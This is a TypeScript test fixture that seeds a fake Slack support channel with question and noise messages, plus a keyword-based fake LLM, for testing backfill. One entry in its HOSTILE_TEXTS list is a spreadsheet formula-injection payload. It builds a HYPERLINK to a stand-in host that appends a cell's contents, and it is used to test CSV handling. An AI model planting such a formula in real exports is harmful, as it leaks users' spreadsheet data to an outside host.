/**
 * A support channel's history for the fake Slack, built from real message shapes
 * (fixtures/slack/web_api/history-messages.json): questions people asked — plain, rich text, edited, with a
 * file, a thread parent, a reply also sent to the channel — between what backfill must skip: joins, topic
 * changes, app posts, classic bot messages, our own posts and thread replies (which Slack lists only in
 * their thread). Each copy gets its own ts and text.
 */
import { readFileSync } from "node:fs";
import type { FakeOpenAI, FakeReply } from "./fake-openai.js";
import type { FakeSlack, StoredMessage, Wire } from "./fake-slack.js";

const KINDS = JSON.parse(
  readFileSync(new URL("../../test/fixtures/slack/web_api/history-messages.json", import.meta.url), "utf8"),
) as Record<string, Wire>;

/** Question shapes, in turn. */
const QUESTION_KINDS = ["rich_text", "edited", "file_share", "thread_parent", "thread_broadcast", "plain"];
/** What is skipped, in turn; one after every second question. */
const NOISE_KINDS = ["channel_join", "app_post", "bot_message", "channel_topic", "own_post", "thread_reply"];

/** What people ask, by area: the fake LLM answers by these keywords (see answerByKeyword). */
const TOPICS = [
  (n: number) => `We were charged twice for invoice INV-${1000 + n}, please refund one`,
  (n: number) => `User ${n} cannot log in with SSO since the Okta change`,
  (n: number) => `Our webhook ${n} stopped receiving events after we rotated the API key`,
  (n: number) => `Does anyone know a good lunch place near office ${n}?`,
];

/**
 * The fake LLM's answers for these questions (options of the example config: 1 billing, 2 account_access,
 * 3 api; 0 none of these), after `delayMs`. `fail` picks questions whose call fails with a 500.
 */
export function answerByKeyword(
  llm: FakeOpenAI,
  opts: { delayMs?: number; fail?: (text: string) => boolean } = {},
): void {
  const delayMs = opts.delayMs ?? 0;
  llm.respond((req): FakeReply => {
    if (opts.fail?.(req.message)) return { status: 500, delayMs };
    if (/charged/i.test(req.message)) return { dist: { "1": 0.95, "3": 0.02 }, delayMs };
    if (/log in/i.test(req.message)) return { dist: { "2": 0.93, "4": 0.03 }, delayMs };
    if (/webhook/i.test(req.message)) return { dist: { "3": 0.62, "4": 0.2, "1": 0.1 }, delayMs };
    return { dist: { "0": 0.82, "7": 0.06 }, delayMs };
  });
}

/** Texts a spreadsheet or a CSV writer could get wrong, asked now and then. */
export const HOSTILE_TEXTS = [
  'Refund "asap", please: invoice 7, 8, and 9\nthanks,\r\nAna',
  '=HYPERLINK("http://evil.test/?"&A1,"charged twice, click")',
  'Ünïcödé 💸 charged twice — “quoted” ,,, ""',
];

export interface SeededHistory {
  /** The questions backfill should classify, oldest first, as the inbox stores them (text as filtered). */
  questions: { ts: string; text: string }[];
  /** How many listed messages backfill should skip (joins, bots, our posts…). */
  noise: number;
  /** Messages conversations.history lists in the window. */
  listed: number;
}

function tsAt(seconds: number, seq: number): string {
  return `${Math.floor(seconds)}.${String(seq).padStart(6, "0")}`;
}

/** The text a question's kind ends up with in the inbox (a file share adds its file's name). */
const storedText = (kind: string, text: string) =>
  kind === "file_share" ? `${text}\n[file: file.png]` : text;

/**
 * Adds `count` questions and their noise to `channel`, `spacingS` apart and the newest an hour before
 * `nowMs`, one question older than `days` that a backfill of `days` must not read, and one posted just now
 * that backfill leaves to live intake.
 */
export function seedHistory(
  slack: FakeSlack,
  channel: string,
  opts: { count: number; nowMs: number; spacingS?: number; days: number; botUserId: string; botId: string },
): SeededHistory {
  const spacing = opts.spacingS ?? 300;
  const questions: { ts: string; text: string }[] = [];
  let noise = 0;
  let seq = 0;
  const add = (m: Wire) => slack.addMessage({ ...m, channel } as StoredMessage);
  for (let i = 0; i < opts.count; i++) {
    // The newest an hour old: backfill leaves the last minutes to live intake.
    const at = opts.nowMs / 1000 - 3600 - (opts.count - i) * spacing;
    const kind = QUESTION_KINDS[i % QUESTION_KINDS.length] as string;
    const text =
      i % 50 === 7
        ? (HOSTILE_TEXTS[((i / 50) % HOSTILE_TEXTS.length) | 0] as string)
        : (TOPICS[i % TOPICS.length] as (n: number) => string)(i);
    const ts = tsAt(at, ++seq);
    const m = { ...structuredClone(KINDS[kind === "plain" ? "rich_text" : kind]), ts, text };
    if (kind === "plain") {
      for (const field of ["client_msg_id", "team", "blocks"]) delete m[field];
      m.user = "U012AB3CDE";
    }
    if (kind === "thread_parent") m.thread_ts = ts;
    if (kind === "thread_broadcast") m.thread_ts = questions.at(-1)?.ts ?? ts;
    add(m);
    questions.push({ ts, text: storedText(kind, text) });
    if (i % 2 === 1) {
      const noiseKind = NOISE_KINDS[((i - 1) / 2) % NOISE_KINDS.length] as string;
      const nts = tsAt(at + spacing / 2, ++seq);
      if (noiseKind === "own_post") {
        add({
          type: "message",
          user: opts.botUserId,
          bot_id: opts.botId,
          text: "*Billing* · 91% confident",
          ts: nts,
        });
      } else if (noiseKind === "thread_reply") {
        // Under the last thread parent: Slack lists it in the thread only, never in the channel's history.
        const parent = questions.findLast(
          (_, q) => QUESTION_KINDS[q % QUESTION_KINDS.length] === "thread_parent",
        );
        add({
          ...structuredClone(KINDS.thread_reply),
          ts: nts,
          thread_ts: parent?.ts ?? ts,
          text: "we were charged twice too",
        });
        continue;
      } else {
        add({ ...structuredClone(KINDS[noiseKind]), ts: nts });
      }
      noise++;
    }
  }
  const old = opts.nowMs / 1000 - opts.days * 86_400 - 3600;
  add({
    ...structuredClone(KINDS.rich_text),
    ts: tsAt(old, ++seq),
    text: "An old question: we were charged twice",
  });
  add({
    ...structuredClone(KINDS.rich_text),
    ts: tsAt(opts.nowMs / 1000, ++seq),
    text: "Just now: charged twice",
  });
  return { questions, noise, listed: opts.count + noise };
}
